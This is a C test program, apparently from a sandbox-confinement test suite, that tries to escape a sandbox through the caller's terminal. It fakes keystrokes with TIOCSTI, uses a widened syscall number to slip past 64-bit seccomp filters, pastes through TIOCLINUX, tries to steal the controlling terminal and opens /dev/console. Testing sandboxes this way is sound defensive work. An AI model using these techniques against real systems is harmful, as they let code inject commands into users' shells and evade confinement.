/*
 * Types on the caller's terminal, so that the caller's shell reads it after the sandbox's end.
 *
 * group: terminal
 * tries: fake input of the caller's terminal (TIOCSTI, TIOCLINUX), steal it as controlling terminal, open it by other names
 * control: plain
 * tty: yes
 * shows: tty-input
 * no-control: linux the terminal is no console here; steal needs the
 *   host's root; console is root's alone
 */
#include <sys/ioctl.h>

#include "attack.h"

static long fake(void)
{
	static const char text[] = "escaped\n";
	long r = -1;

	for (int fd = 0; fd < 3 && r < 0; fd++)
		for (const char *c = text; *c; c++)
			r = ioctl(fd, TIOCSTI, c);
	return r;
}

/* The number of a call is 32 bits to the kernel: a filter that compares 64 lets this one through. */
static long fake_wide(void)
{
	static const char c = 'w';

	return syscall(SYS_ioctl, 0, (unsigned long)TIOCSTI | 0x100000000UL, &c);
}

static long paste(void)
{
	char sub[1] = {3}; /* paste the selection */

	return ioctl(0, TIOCLINUX, sub);
}

static long steal(void)
{
	pid_t pid = fork();
	int status = 0;

	if (pid == 0)
		_exit(setsid() < 0 || ioctl(0, TIOCSCTTY, 1) < 0 ? 1 : 0);
	(void)waitpid(pid, &status, 0);
	errno = EPERM;
	return WIFEXITED(status) && WEXITSTATUS(status) == 0 ? 0 : -1;
}

int main(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	tried("fake", fake());
	tried("fake-wide", fake_wide());
	tried("linux", paste());
	tried("steal", steal());
	tried("console", open("/dev/console", O_RDWR | O_NOCTTY | O_CLOEXEC));
	return ended();
}
